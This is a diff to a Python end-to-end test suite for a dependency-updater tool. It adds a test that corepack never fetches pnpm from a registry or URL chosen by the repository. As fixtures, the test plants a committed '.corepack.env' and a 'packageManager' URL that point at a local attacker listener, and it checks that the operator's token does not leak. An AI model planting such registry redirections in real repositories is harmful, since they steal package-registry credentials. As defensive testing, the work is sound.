@@ -38,6 +38,7 @@ from typing import Any
 import pytest
 import yaml
 from e2e import TOKEN, e2e, verify_ok
+from ecosystems.registries.corepack import PNPM_9, serve_pnpm
 from ecosystems.registries.npm import (
     lodash_registry,
     publish_lodash_fixes,
@@ -462,6 +463,44 @@ def test_an_npmrc_registry_never_receives_the_operators_token(unit: Unit) -> Non
     assert result.blocked_detail.startswith(".npmrc: `registry` chooses a package registry")
 
 
+@pytest.mark.parametrize("attack", ["corepack.env", "packageManager url"])
+def test_corepack_never_fetches_pnpm_from_where_the_repository_says(
+    unit: Unit, attack: str
+) -> None:
+    """A committed `.corepack.env` naming a registry (where corepack would send the
+    operator's COREPACK_NPM_TOKEN), or a `packageManager` URL, gets no request."""
+    require_tool("pnpm")
+    require_tool("corepack")
+    token = "npm_" + "OperatorCorepackToken" * 2
+    registry = lodash_registry()
+    with registry.serve() as url, listener() as attacker:
+        root = unit.worktree
+        write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
+        run(["pnpm", "install", "--lockfile-only", "--ignore-scripts"], root,
+            offline_env(unit.home, js_registry_env(url)))  # fmt: skip
+        package = json.loads((root / "package.json").read_text())
+        if attack == "corepack.env":
+            package["packageManager"] = f"pnpm@{PNPM_9}"  # not cached: corepack must fetch it
+            (root / ".corepack.env").write_text(f"COREPACK_NPM_REGISTRY={attacker.url}\n")
+        else:
+            package["packageManager"] = f"pnpm@{attacker.url}pnpm.tgz"
+        (root / "package.json").write_text(json.dumps(package))
+        from agentd.ecosystems.pnpm.updater import PnpmUpdater
+
+        # the operator allowlisted a token for corepack's registry (npm's, by default)
+        allowed = {**js_registry_env(url), "COREPACK_NPM_TOKEN": token}
+        result = PnpmUpdater().apply(context(unit, allowed), [bump("pnpm-lock.yaml", LODASH)])
+
+    assert attacker.requests == [], attacker.requests
+    assert token not in result.tool_output + result.blocked_detail
+    expected = (
+        ReasonCode.VERIFICATION_UNAVAILABLE  # npm's registry is out of reach from the test
+        if attack == "corepack.env"
+        else ReasonCode.UNSUPPORTED_ECOSYSTEM
+    )
+    assert result.blocked is expected, result_of(result)
+
+
 def test_a_cargo_config_rustc_never_runs(unit: Unit) -> None:
     require_tool("cargo")
     from ecosystems.registries.cargo import CargoRegistry
@@ -693,6 +732,7 @@ class Case:
 
 
 def _js_case(ecosystem: str, unit: Unit, url: str) -> Case:
+    from ecosystems.registries.corepack import corepack_settings
     from ecosystems.registries.yarn import write_berry_project
 
     from agentd.ecosystems.npm.updater import NpmUpdater
@@ -715,7 +755,12 @@ def _js_case(ecosystem: str, unit: Unit, url: str) -> Case:
     run([*argv, "--ignore-scripts"] if ecosystem != "berry" else argv, root,
         {**env, "YARN_ENABLE_IMMUTABLE_INSTALLS": "false"})  # fmt: skip
     (root / ".yarn" / "install-state.gz").unlink(missing_ok=True)
-    sandboxed = context(unit, js_registry_env(url), sandbox="bwrap")
+    allowed = js_registry_env(url)
+    if ecosystem == "pnpm":  # corepack fetches pnpm 9 (the 9.0 lockfile's) into the private home
+        allowed |= {
+            k: v for k, v in corepack_settings(url, unit.home).items() if k != "COREPACK_HOME"
+        }
+    sandboxed = context(unit, allowed, sandbox="bwrap")
     return Case(updater, sandboxed, [bump(lockfile, LODASH)], lockfile)
 
 
@@ -770,6 +815,8 @@ def case_for(ecosystem: str, unit: Unit) -> Iterator[Case]:
         if ecosystem in ("yarn", "berry"):
             require_yarn_classic()
         registry = lodash_registry()
+        if ecosystem == "pnpm":
+            serve_pnpm(registry, PNPM_9)
         with registry.serve() as url:
             case = _js_case(ecosystem, unit, url)
             publish_lodash_fixes(registry)
